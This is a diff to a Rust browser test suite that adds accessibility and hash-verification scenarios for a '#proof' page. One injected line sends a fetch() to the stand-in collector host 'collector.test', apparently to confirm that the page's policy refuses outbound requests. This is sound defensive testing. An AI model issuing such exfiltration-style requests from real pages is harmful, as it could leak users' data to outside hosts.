@@ -16,6 +16,10 @@ pub fn scenarios() -> Vec<Scenario> {
         scenario!(the_bench_of_check_is_for_everybody_dark)
             .with(Options::new().dark())
             .only_from(Origin::File),
+        scenario!(the_bench_of_proof_is_for_everybody_light).only_from(Origin::File),
+        scenario!(the_bench_of_proof_is_for_everybody_dark)
+            .with(Options::new().dark())
+            .only_from(Origin::File),
         scenario!(a_dark_page_has_contrast)
             .with(Options::new().dark())
             .only_from(Origin::File),
@@ -148,6 +152,38 @@ async fn the_bench_of_check_is_for_everybody_light(page: Page) -> Outcome {
 
 async fn the_bench_of_check_is_for_everybody_dark(page: Page) -> Outcome {
     bench(&page, BROKEN).await?;
+    contrasts(&page).await
+}
+
+/// A refusal in the list, a file with a SHA-256 that differs: everything that `#proof` has.
+async fn proof(page: &Page) -> Outcome {
+    page.open("#proof").await?;
+    page.button("Copy the SHA-256 of style").await?;
+    page.script("fetch('https://collector.test/' + 'a'.repeat(150)).catch(() => {});")
+        .await?;
+    page.wait_for_text("The policy refused 1 attempt").await?;
+    let file = page.write_file("page.html", "<p>")?;
+    page.file_input("File to hash")
+        .await?
+        .upload(&[&file])
+        .await?;
+    page.field("Published SHA-256")
+        .await?
+        .fill(&"0".repeat(64))
+        .await?;
+    page.wait_for_text("Different:").await
+}
+
+async fn the_bench_of_proof_is_for_everybody_light(page: Page) -> Outcome {
+    page.resize(320, 640).await?;
+    proof(&page).await?;
+    fits(&page).await?;
+    contrasts(&page).await?;
+    keyboard(&page).await
+}
+
+async fn the_bench_of_proof_is_for_everybody_dark(page: Page) -> Outcome {
+    proof(&page).await?;
     contrasts(&page).await
 }
 
